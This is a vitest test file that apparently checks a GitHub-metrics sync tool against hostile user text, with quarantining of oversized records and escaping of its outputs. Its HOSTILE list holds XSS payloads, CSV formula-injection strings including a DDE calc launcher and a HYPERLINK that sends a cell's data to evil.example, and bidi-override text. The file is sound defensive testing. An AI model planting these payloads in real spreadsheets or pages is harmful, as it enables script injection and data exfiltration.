import { execFile } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import {
  commits as commitsTable,
  incidentIssues,
  listQuarantined,
  openDatabase,
  people,
  pullRequests,
  teams as teamsTable,
} from "@yardstick/db";
import { generateWorld, presetOptions, type Simulator, startSimulator, World } from "@yardstick/github-sim";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { configInputForWorld } from "./demo/world-config.js";
import { cliEntry } from "./test-cli.js";

const root = fileURLToPath(new URL("../../../", import.meta.url));
const TOKEN = "hostile-test-token";

/** Text that does not compress: a btree index (person identities) cannot hold a megabyte of it. */
function incompressible(length: number): string {
  let seed = 11;
  let out = "";
  while (out.length < length) {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    out += String.fromCharCode(0x4e00 + (seed % 0x5000));
  }
  return out;
}

const MEGABYTE_NAME = incompressible(1_000_000);
/** What people can type into GitHub, one kind per sample record. */
const HOSTILE = [
  "nul \u0000 inside",
  "lone \uD83D surrogate",
  "rtl \u202Egnp.exe override",
  "<script>alert('x')</script><img src=x onerror=alert(1)>",
  "<!channel> <@U012> *bold* `code` [link](javascript:alert(1))",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+SUM(1,2)",
  "@cmd|' /C calc'!A0",
  "-2+3",
  `${"big ".repeat(250_000)}`,
];

function hostile(i: number): string {
  return HOSTILE[i % HOSTILE.length] ?? "";
}

describe("a sync of a world whose people write hostile text", () => {
  let simulator: Simulator;
  let dir: string;
  let counts: { pulls: number; users: number; teams: number; hostilePulls: number };
  const env = () => ({
    ...process.env,
    GITHUB_TOKEN: TOKEN,
    GITHUB_API_URL: simulator.url,
    YARDSTICK_GITHUB_MIN_TIME_MS: "0",
    YARDSTICK_CONFIG: join(dir, "yardstick.config.json"),
    DATABASE_URL: `pglite:${join(dir, "data")}`,
    REDIS_URL: "",
  });
  const cli = (args: string[]) =>
    promisify(execFile)(process.execPath, [...cliEntry(), ...args], {
      cwd: root,
      maxBuffer: 256 << 20,
      env: env(),
    });

  beforeAll(async () => {
    let pull = 0;
    let commit = 0;
    let user = 0;
    let team = 0;
    let issue = 0;
    counts = { pulls: 0, users: 0, teams: 0, hostilePulls: 0 };
    const records = [...generateWorld(presetOptions("small", 5))].map((record) => {
      switch (record.type) {
        case "pull": {
          if (record.mergedAt !== null) counts.pulls += 1;
          pull += 1;
          if (pull % 3 !== 0) return record;
          if (record.mergedAt !== null) counts.hostilePulls += 1;
          return {
            ...record,
            title: `${hostile(pull)} ${record.title}`,
            body: `${record.body}\n${hostile(pull + 1)}`,
            labels: [...record.labels, hostile(pull + 2).slice(0, 50)],
          };
        }
        case "commit":
          commit += 1;
          return commit % 4 === 0 ? { ...record, message: `${record.message}\n\n${hostile(commit)}` } : record;
        case "user":
          counts.users += 1;
          user += 1;
          if (user === 2) return { ...record, name: MEGABYTE_NAME };
          return user % 3 === 0 ? { ...record, name: hostile(user).slice(0, 200) } : record;
        case "team":
          counts.teams += 1;
          team += 1;
          // Team names become group names in every output: one of each hostile kind in turn.
          return { ...record, name: hostile(team + 1).slice(0, 100) };
        case "issue":
          issue += 1;
          return { ...record, title: `${hostile(issue)} ${record.title}` };
        default:
          return record;
      }
    });
    const world = World.from(records);
    simulator = await startSimulator({ world, tokens: [TOKEN] });
    dir = mkdtempSync(join(tmpdir(), "yardstick-hostile-"));
    writeFileSync(join(dir, "yardstick.config.json"), JSON.stringify(configInputForWorld(world)));
  }, 120_000);
  afterAll(async () => {
    await simulator?.close();
  });

  it("stores every record or quarantines it with a reason, and the operator sees the quarantine", async () => {
    const out = join(dir, "reports");
    const { stdout } = await cli(["run", "--no-progress", "--out", out, "--weeks", "4"]);
    expect(stdout).toContain("0 failed jobs");

    const quarantineOut = await cli(["quarantine", "--json"]);
    const listed = JSON.parse(quarantineOut.stdout) as {
      kind: string;
      reason: string;
      sizes: Record<string, number>;
    }[];
    expect(quarantineOut.stdout).not.toContain(MEGABYTE_NAME.slice(0, 50));
    // The person with a megabyte display name: refused by the identities index, quarantined.
    expect(listed).toContainEqual(
      expect.objectContaining({
        kind: "person",
        code: "54000",
        sizes: expect.objectContaining({ displayName: 1_000_000 }),
      }),
    );
    const text = await cli(["quarantine"]);
    expect(text.stdout).toMatch(/^1 quarantined record/);

    const handle = await openDatabase({ url: `pglite:${join(dir, "data")}` });
    try {
      const db = handle.db;
      const storedPulls = await db.select({ title: pullRequests.title, body: pullRequests.body }).from(pullRequests);
      const quarantined = await listQuarantined(db);
      const byKind = (kind: string) => quarantined.filter((q) => q.kind === kind).length;
      expect(storedPulls.length + byKind("pull_request")).toBe(counts.pulls);
      expect(storedPulls.some((p) => p.title.includes("\uFFFD"))).toBe(true);
      expect(storedPulls.some((p) => p.body.length > 900_000)).toBe(true);
      expect((await db.select().from(people)).length + byKind("person")).toBeGreaterThan(0);
      expect((await db.select().from(teamsTable)).length + byKind("team")).toBe(counts.teams);
      expect((await db.select().from(commitsTable)).length).toBeGreaterThan(0);
      expect((await db.select().from(incidentIssues)).length).toBeGreaterThanOrEqual(0);
    } finally {
      await handle.close();
    }

    // The CSV exports: no text cell starts a formula (OWASP), whatever the group names.
    await cli(["report", "--input", join(out, "metrics.json"), "--out", join(out, "report.csv")]);
    // (A cell starts after a comma, possibly quoted; a negative number is a figure, not a formula.)
    const csv = readFileSync(join(out, "report.csv"), "utf8");
    expect(csv).not.toMatch(/(^|,)"?([=+@\t\r]|-[^0-9])/m);

    // Every output escaped: no markup, no raw bidi override reaches the report or the digest.
    for (const file of readdirSync(out)) {
      const content = readFileSync(join(out, file), "utf8");
      expect(content, file).not.toContain("<script>alert");
      expect(content, file).not.toContain("onerror=alert");
      expect(content, file).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
      expect(content, file).not.toContain("\u0000");
    }
  }, 600_000);
});
